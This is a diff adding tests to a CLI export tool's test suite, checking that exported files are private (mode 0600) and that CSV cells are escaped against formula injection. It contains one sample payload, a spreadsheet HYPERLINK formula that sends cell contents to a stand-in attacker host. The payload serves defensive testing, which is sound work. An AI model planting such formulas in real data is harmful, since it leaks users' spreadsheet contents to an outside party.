@@ -5,6 +5,7 @@ from __future__ import annotations
 import csv
 import io
 import json
+import stat
 from datetime import UTC, datetime
 from html.parser import HTMLParser
 from pathlib import Path
@@ -508,3 +509,42 @@ def test_export_to_an_unwritable_path_is_one_line_and_exit_2(
     code, out, err = invoke(env, "export", "promises", "--output", str(target))
     assert (code, out) == (2, "")
     assert err.splitlines() == [f"cannot write {target}: No such file or directory"]
+
+
+FORMULA = '=HYPERLINK("https://evil.example/?x="&A1,"fix")'
+
+
+@pytest.mark.usefixtures("loose_umask")
+def test_export_files_are_private_and_csv_cells_never_run_as_formulas(
+    env: dict[str, str], db: Database, tmp_path: Path
+) -> None:
+    seed_store(db)
+    code, _, err = invoke(
+        env, "suppress", "add", "--number", "+14155550123", "--kind", "dnc", "--reason", FORMULA,
+        "--by", "@ops",
+    )  # fmt: skip
+    assert code == 0, err
+    target = tmp_path / "optouts.csv"
+    code, out, err = invoke(env, "export", "optouts", "--output", str(target))
+    assert (code, out) == (0, ""), err
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+    with target.open(encoding="utf-8", newline="") as handle:
+        last = list(csv.DictReader(handle))[-1]
+    assert last["reason"] == "'" + FORMULA
+    assert last["created_by"] == "'@ops"
+    assert last["number"] == "+14155550123"  # a full E.164 number is data, kept as it is
+    # JSON carries the text as it is: nothing there is evaluated.
+    code, out, err = invoke(env, "export", "optouts", "--format", "json")
+    assert json.loads(out)[-1]["reason"] == FORMULA
+    # A file replaced by a new export is private too.
+    target.chmod(0o644)
+    assert invoke(env, "export", "attempts", "--output", str(target))[0] == 0
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
+
+
+@pytest.mark.usefixtures("loose_umask")
+def test_the_html_report_is_private(env: dict[str, str], tmp_path: Path) -> None:
+    target = tmp_path / "report.html"
+    code, _, err = invoke(env, "report", "--html", str(target))
+    assert code == 0, err
+    assert stat.S_IMODE(target.stat().st_mode) == 0o600
